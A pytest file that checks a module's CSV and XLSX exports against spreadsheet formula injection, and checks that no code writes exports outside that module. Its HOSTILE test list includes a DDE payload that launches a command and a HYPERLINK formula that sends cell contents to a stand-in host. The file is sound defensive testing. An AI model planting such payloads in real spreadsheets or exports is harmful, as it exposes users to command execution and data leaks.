"""core.exports: no text cell becomes a formula, numbers stay numbers, and no export is written elsewhere.

The hostile cells are OWASP's examples (https://owasp.org/www-community/attacks/CSV_Injection) and
the ones found in the audit and report exports. How LibreOffice reads the files is
tests/reports/test_exports_in_libreoffice.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from core import exports

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A2,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\tplain after a tab",
    "   =1+1",  # leading spaces: an importer that trims them would run the rest
    "\n@SUM(1+1)",
    "\x00=1+1",  # LibreOffice drops the NUL and runs the rest
    "\x1b+1",
    "\x7f@SUM(1+1)",
    "\x01plain after a control character",
    " \x00 \u3000\x0b-2+3",  # spaces and controls mixed before the formula
]
HARMLESS = ["Sunita Devi", "0-4", "60+", "a-b", "2026-03-14", "it's", "x=1", ""]
NUMBERS = [0, 7, -5, 2.5, -1.5, Decimal("-3.25"), Decimal("12")]


def csv_cells(*lines: list) -> list[list[str]]:
    return list(csv.reader(io.StringIO(exports.csv_file(lines), newline="")))


def xlsx_cells(*lines: list) -> list:
    book = load_workbook(io.BytesIO(exports.xlsx_file([("Sheet", lines)])))
    return list(book["Sheet"].iter_rows())


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_csv_cell_gets_one_quote_in_front(text):
    assert exports.starts_a_formula(text)
    assert csv_cells(["before", text, "after"]) == [["before", "'" + text, "after"]]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_xlsx_cell_is_a_string_cell_as_typed(text):
    (cell,) = xlsx_cells([text])[0]
    assert cell.data_type == "s"
    # XML reads a carriage return as a line feed (XML 1.0, 2.11); a character XLSX cannot hold is U+FFFD
    assert cell.value == ILLEGAL_CHARACTERS_RE.sub("\ufffd", text.replace("\r", "\n"))


def test_text_that_is_no_formula_is_left_as_typed():
    assert not any(exports.starts_a_formula(text) for text in HARMLESS)
    assert csv_cells(HARMLESS) == [HARMLESS]
    row = xlsx_cells(HARMLESS)[0]
    assert [cell.value for cell in row] == [*HARMLESS[:-1], None]  # openpyxl reads an empty string as no value
    assert {cell.data_type for cell in row[:-1]} == {"s"}


def test_numbers_stay_numbers_negative_ones_too():
    line = exports.csv_line(NUMBERS)
    assert line == "0,7,-5,2.5,-1.5,-3.25,12\r\n"  # bare: no quote, no prefix
    row = xlsx_cells(NUMBERS)[0]
    assert [cell.data_type for cell in row] == ["n"] * len(NUMBERS)
    assert [cell.value for cell in row] == [0, 7, -5, 2.5, -1.5, -3.25, 12]


def test_text_that_looks_like_a_negative_number_is_still_text():
    assert csv_cells(["-5"]) == [["'-5"]]
    assert xlsx_cells(["-5"])[0][0].data_type == "s"


def test_none_is_an_empty_cell():
    assert exports.csv_line([None, 1, None]) == ",1,\r\n"
    assert [cell.value for cell in xlsx_cells(["a", None, 1])[0]] == ["a", None, 1]


def test_a_value_that_is_not_text_is_neutralised_by_what_it_prints():
    class Sly:
        def __str__(self) -> str:
            return "=1+1"

    assert exports.csv_line([Sly()]) == "'=1+1\r\n"
    assert xlsx_cells([Sly()])[0][0].data_type == "s"


def test_dates_are_written_as_given():
    assert exports.csv_line([dt.date(2026, 3, 14), "2026-03-14T09:00:00.000+05:30"]) == (
        "2026-03-14,2026-03-14T09:00:00.000+05:30\r\n"
    )


@pytest.mark.parametrize(
    "text",
    ["Hypertension, Type 2 Diabetes", 'say "ah"', "line one\nline two", "carriage\r\nreturn", "a;=1+2", "a\t=1+2"],
)
def test_a_comma_quote_or_line_break_stays_inside_its_cell(text):
    assert csv_cells(["x", text, 3]) == [["x", text, "3"]]
    assert exports.csv_cell(text).startswith('"')  # quoted: a separator inside it starts no cell


def test_a_semicolon_in_a_cell_starts_no_formula_for_a_reader_splitting_on_semicolons():
    for text in ("a;=1+2", 'b";=1+2', "c\t=1+2"):  # OWASP's example: a quote, then a separator
        written = exports.csv_file([[text]])
        assert list(csv.reader(io.StringIO(written), delimiter=";")) == [[text]]
        assert list(csv.reader(io.StringIO(written), delimiter="\t")) == [[text]]


def test_a_hostile_cell_with_a_comma_keeps_its_quote_and_its_comma():
    text = '=HYPERLINK("http://example.invalid/?x="&A2,"open")'
    assert exports.csv_cell(text) == '"\'=HYPERLINK(""http://example.invalid/?x=""&A2,""open"")"'


def test_csv_lines_stream_one_line_at_a_time():
    assert list(exports.csv_lines([["a", 1], [""], []])) == ["a,1\r\n", '""\r\n', "\r\n"]


def test_bold_lines_are_bold_in_xlsx_and_plain_lines_not():
    rows = xlsx_cells(exports.Bold(["Diagnosis", "Consultations"]), ["fever", 2])
    assert [cell.font.b for cell in rows[0]] == [True, True]
    assert [cell.font.b for cell in rows[1]] == [False, False]


# Writing an export anywhere but core/exports.py would skip its neutralising.
WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\(|from csv import .*\b(writer|DictWriter)\b|\bopenpyxl\b")
ALLOWED = {Path("core/exports.py")}
NOT_PROJECT = {"tests", ".venv", "node_modules", "staticfiles", "var"}


def writers_outside_the_module(root: Path) -> list[str]:
    found = []
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root)
        if relative.parts[0] in NOT_PROJECT or relative.parts[0].startswith(".") or relative in ALLOWED:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITERS.search(line):
                found.append(f"{relative}:{number}: {line.strip()}")
    return found


def test_no_export_is_written_outside_core_exports():
    assert writers_outside_the_module(ROOT) == []


def test_the_search_finds_a_writer_that_bypasses_the_module(tmp_path: Path):
    (tmp_path / "core").mkdir()
    (tmp_path / "core/exports.py").write_text("import csv\nw = csv.writer(x)\nfrom openpyxl import Workbook\n")
    (tmp_path / "camps").mkdir()
    (tmp_path / "camps/export.py").write_text("import csv\n\nw = csv.writer(out)\n")
    (tmp_path / "camps/sheet.py").write_text("from openpyxl.cell import WriteOnlyCell\n")
    (tmp_path / "camps/dict.py").write_text("from csv import DictWriter\n")
    assert [hit.split(":")[0] for hit in writers_outside_the_module(tmp_path)] == [
        "camps/dict.py",
        "camps/export.py",
        "camps/sheet.py",
    ]


def test_a_control_character_xml_cannot_hold_is_shown_not_refused():
    (cell,) = xlsx_cells(["Sun\x01ita\x1f"])[0]  # openpyxl alone raises IllegalCharacterError
    assert (cell.data_type, cell.value) == ("s", "Sun\ufffdita\ufffd")
    assert csv_cells(["Sun\x01ita"]) == [["Sun\x01ita"]]
